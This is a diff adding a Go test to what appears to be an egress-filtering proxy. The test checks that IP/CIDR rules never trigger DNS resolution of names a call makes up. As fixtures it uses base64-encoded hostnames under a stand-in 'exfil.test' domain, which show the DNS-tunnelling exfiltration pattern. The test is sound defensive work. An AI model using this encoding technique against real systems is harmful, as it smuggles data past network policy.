@@ -1058,3 +1058,20 @@ func pemCert(t *testing.T, b []byte) *x509.Certificate {
 	}
 	return c
 }
+
+// TestAddressRulesLookUpNoChosenName: an address or CIDR rule does not make
+// the proxy resolve the names a call asks for on its port (to see whether
+// they land in the range): the host's resolver would ask outside DNS servers
+// any name the call made up, a way out for data ("no DNS of the call's own")
+// under a policy that lets nothing out to anyone else. An address rule
+// allows IP literals and pinned names (--resolve); a name needs a name rule.
+func TestAddressRulesLookUpNoChosenName(t *testing.T) {
+	e := start(t, Policy{}, []string{"10.1.2.3:5432", "10.0.0.0/8", "allowed.test"})
+	_ = socksConnect(t, e.addr, 1, "c2VjcmV0LWRhdGE.exfil.test", 5432)
+	if code, _ := get(t, e.httpClient(t, nil, ""), "http://bW9yZS1kYXRh.exfil.test/"); code == 200 {
+		t.Fatal("a name no rule names was let through")
+	}
+	if n := e.res.lookups.Load(); n != 0 {
+		t.Fatalf("the proxy looked up %d names the call made up, which no name rule allows: a DNS channel out", n)
+	}
+}
